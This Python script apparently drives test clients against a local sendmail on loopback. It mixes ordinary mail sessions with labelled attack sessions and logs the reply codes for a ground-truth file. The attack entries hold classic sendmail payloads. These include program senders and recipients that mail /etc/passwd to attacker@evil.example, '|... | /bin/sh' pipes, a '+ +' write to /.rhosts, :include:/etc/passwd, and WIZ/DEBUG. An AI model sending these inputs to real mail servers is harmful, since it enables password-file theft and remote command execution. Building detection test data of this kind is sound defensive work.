#!/usr/bin/env python3
"""The clients of sendmail-attack.sh: the advisory's attacks and ordinary mail.

    sendmail-clients.py PORT TRUTH_TSV TRANSCRIPT

Each client connects from its own loopback address, says EHLO, and sends its MAIL FROM
and RCPT TO commands verbatim (raw SMTP: smtplib would quote or bracket the addresses),
then DATA when sendmail accepted a recipient. truth.tsv gets one line per client:
source, name, class (attack or benign), the MAIL/RCPT commands sent (a JSON list) and
sendmail's reply codes (`MAIL=553 RCPT=250 DATA=354 BODY=250`); the transcript keeps every reply in full.
"""

import json
import socket
import sys
import time

PORT = int(sys.argv[1])
TRUTH = sys.argv[2]
TRANSCRIPT = sys.argv[3]

# source, name, class, [commands]; "DATA" sends a small message when a RCPT was accepted.
CLIENTS = [
    # The ordinary mail first, as on a quiet day.
    ("127.0.0.40", "benign-local", "benign",
     ["MAIL FROM:<alice@example.org>", "RCPT TO:<tanaka>", "DATA"]),
    ("127.0.0.41", "benign-unknown-user", "benign",
     ["MAIL FROM:<bob@example.org>", "RCPT TO:<nosuchuser>", "RCPT TO:<postmaster>", "DATA"]),
    ("127.0.0.42", "benign-passwd-in-name", "benign",
     ["MAIL FROM:<passwd-admin@example.org>", "RCPT TO:<root>", "DATA"]),
    # The advisory's attack: the password file mailed out by a program sender.
    ("127.0.0.20", "program-sender-mail-passwd", "attack",
     ["MAIL FROM:<|/bin/mail attacker@evil.example < /etc/passwd>", "RCPT TO:<nosuchuser>",
      "DATA"]),
    ("127.0.0.21", "quoted-program-sender-sh", "attack",
     ["MAIL FROM:<\"|/bin/sh -c 'cat /etc/passwd | mail attacker@evil.example'\">",
      "RCPT TO:<root>", "DATA"]),
    ("127.0.0.22", "program-sender-unbracketed", "attack",
     ["MAIL FROM:|/bin/mail attacker@evil.example < /etc/passwd", "RCPT TO:<root>", "DATA"]),
    ("127.0.0.23", "unparsable-sender-unbalanced", "attack",
     ["MAIL FROM:<|/bin/sh", "RCPT TO:<root>", "DATA"]),
    ("127.0.0.24", "file-sender-passwd", "attack",
     ["MAIL FROM:</etc/passwd>", "RCPT TO:<root>", "DATA"]),
    # Programs and files as recipients, each followed by an ordinary one so the message
    # is queued and its lines carry a queue id.
    ("127.0.0.25", "program-rcpt-sed-sh", "attack",
     ["MAIL FROM:<attacker@evil.example>", "RCPT TO:<\"|sed -e '1,/^$/'d | /bin/sh\">",
      "RCPT TO:<root>", "DATA"]),
    ("127.0.0.26", "program-rcpt-mail-passwd", "attack",
     ["MAIL FROM:<attacker@evil.example>", "RCPT TO:<|/bin/mail attacker@evil.example < /etc/passwd>",
      "QUIT"]),
    ("127.0.0.27", "file-rcpt-passwd", "attack",
     ["MAIL FROM:<attacker@evil.example>", "RCPT TO:</etc/passwd>", "RCPT TO:<root>", "DATA"]),
    ("127.0.0.28", "file-rcpt-tmp", "attack",
     ["MAIL FROM:<attacker@evil.example>", "RCPT TO:</tmp/x>", "QUIT"]),
    ("127.0.0.29", "include-rcpt-passwd", "attack",
     ["MAIL FROM:<attacker@evil.example>", "RCPT TO:<:include:/etc/passwd>", "QUIT"]),
    ("127.0.0.30", "program-rcpt-rhosts", "attack",
     ["MAIL FROM:<attacker@evil.example>", "RCPT TO:<\"|/bin/echo + + >> /.rhosts\">",
      "RCPT TO:<root>", "DATA"]),
    ("127.0.0.31", "file-rcpt-rhosts", "attack",
     ["MAIL FROM:<attacker@evil.example>", "RCPT TO:<~/.rhosts>", "QUIT"]),
    ("127.0.0.32", "quoted-program-rcpt-unbracketed", "attack",
     ["MAIL FROM:<attacker@evil.example>", "RCPT TO:\"|/bin/sh -c id\"", "QUIT"]),
    ("127.0.0.33", "program-rcpt-unbalanced", "attack",
     ["MAIL FROM:<attacker@evil.example>", "RCPT TO:<|/bin/sh", "QUIT"]),
    ("127.0.0.35", "file-rcpt-unresolvable-sender", "attack",
     ["MAIL FROM:<attacker@nowhere.invalid>", "RCPT TO:</etc/passwd>", "QUIT"]),
    ("127.0.0.37", "program-rcpt-unresolvable-sender", "attack",
     ["MAIL FROM:<attacker@nowhere.invalid>", "RCPT TO:<\"|/bin/sh -c 'id > /tmp/pwned'\">", "QUIT"]),
    ("127.0.0.36", "decode-alias", "attack",
     ["MAIL FROM:<attacker@evil.example>", "RCPT TO:<decode>", "RCPT TO:<root>", "DATA"]),
    # The door-handle commands of sendmail's oldest holes.
    ("127.0.0.34", "wiz-debug", "attack", ["WIZ", "DEBUG"]),
]


def reply(sock_file):
    """One SMTP reply: the code and the lines."""
    lines = []
    while True:
        line = sock_file.readline()
        if not line:
            return 0, lines or ["(connection closed)"]
        line = line.decode("utf-8", "replace").rstrip("\r\n")
        lines.append(line)
        if len(line) < 4 or line[3] != "-":
            break
    try:
        return int(lines[-1][:3]), lines
    except ValueError:
        return 0, lines


def client(source, commands, transcript):
    sock = socket.create_connection(("127.0.0.1", PORT), timeout=30, source_address=(source, 0))
    f = sock.makefile("rb")
    codes = []

    def say(command):
        transcript.write(f"{source} > {command}\n")
        sock.sendall(command.encode() + b"\r\n")
        code, lines = reply(f)
        for line in lines:
            transcript.write(f"{source} < {line}\n")
        return code

    code, lines = reply(f)  # the greeting, after Debian's greet_pause
    for line in lines:
        transcript.write(f"{source} < {line}\n")
    say("EHLO client.example.net")
    accepted = False
    for command in commands:
        verb = command.split(":")[0].split(" ")[0]
        if command == "DATA":
            if not accepted:
                continue
            code = say("DATA")
            codes.append(f"DATA={code}")
            if code == 354:
                body = (
                    "From: someone\r\nTo: someone\r\nSubject: report on /etc/passwd\r\n\r\n"
                    "hello\r\n."
                )
                code = say(body)
                codes.append(f"BODY={code}")
            continue
        code = say(command)
        codes.append(f"{verb}={code}")
        if verb == "RCPT" and code == 250:
            accepted = True
        if verb == "QUIT":
            break
    else:
        say("QUIT")
    sock.close()
    return " ".join(codes)


def main():
    with open(TRUTH, "w") as truth, open(TRANSCRIPT, "w") as transcript:
        for source, name, klass, commands in CLIENTS:
            codes = client(source, commands, transcript)
            sent = json.dumps([c for c in commands if c not in ("DATA", "QUIT")])
            truth.write(f"{source}\t{name}\t{klass}\t{sent}\t{codes}\n")
            truth.flush()
            time.sleep(0.2)


main()
